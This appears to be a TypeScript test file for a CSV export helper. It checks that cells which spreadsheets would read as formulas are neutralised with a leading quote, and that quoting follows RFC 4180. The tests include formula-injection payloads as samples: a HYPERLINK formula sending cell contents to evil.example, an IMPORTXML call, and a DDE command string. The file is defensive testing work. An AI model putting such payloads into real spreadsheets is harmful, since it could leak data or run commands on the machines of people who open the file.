import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, neutralizeCell, toCsv } from './csv';

describe('CSV cells', () => {
  it('neutralises every cell a spreadsheet would read as a formula', () => {
    for (const text of ['=1+1', '+1', '-1', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=', '-'])
      expect(neutralizeCell(text)).toBe(`'${text}`);
    const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    expect(csvCell(hyperlink)).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('\r=cmd')).toBe(`"'\r=cmd"`);
  });

  it('leaves other text as it is, quoting only what RFC 4180 requires', () => {
    for (const text of ['Cotton tee', 'color=Black;size=M', '纯棉圆领T恤', "'already", ' =1', 'a-b', ''])
      expect(csvCell(text)).toBe(text);
    expect(csvCell('Black, M')).toBe('"Black, M"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
  });

  it('writes numbers as numbers, empty cells for null, and refuses non-finite numbers', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(79.9)).toBe('79.9');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(true)).toBe('true');
    expect(() => csvCell(Number.NaN)).toThrow(TypeError);
    expect(() => csvCell(Number.POSITIVE_INFINITY)).toThrow(TypeError);
  });
});

describe('CSV documents', () => {
  it('joins cells with commas and rows with CRLF, ending with a line end', () => {
    expect(
      toCsv([
        ['a', 'b'],
        [1, null],
      ]),
    ).toBe('a,b\r\n1,\r\n');
    expect(toCsv([])).toBe('');
  });

  it('reads back, through a real CSV parser, as the neutralised cells', () => {
    const rows = [
      ['line', 'field', 'message'],
      [3, 'name', '=IMPORTXML("http://evil.example","//a")'],
      [4, 'tags', '@cmd|" /C calc"!A0'],
      [5, '', 'many, commas; "quotes"\r\nand lines'],
      [6, 'price', '-12'],
    ];
    const parsed = parse(toCsv(rows), { relax_column_count: false }) as string[][];
    expect(parsed).toEqual([
      ['line', 'field', 'message'],
      ['3', 'name', `'=IMPORTXML("http://evil.example","//a")`],
      ['4', 'tags', `'@cmd|" /C calc"!A0`],
      ['5', '', 'many, commas; "quotes"\r\nand lines'],
      ['6', 'price', "'-12"],
    ]);
    for (const row of parsed) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
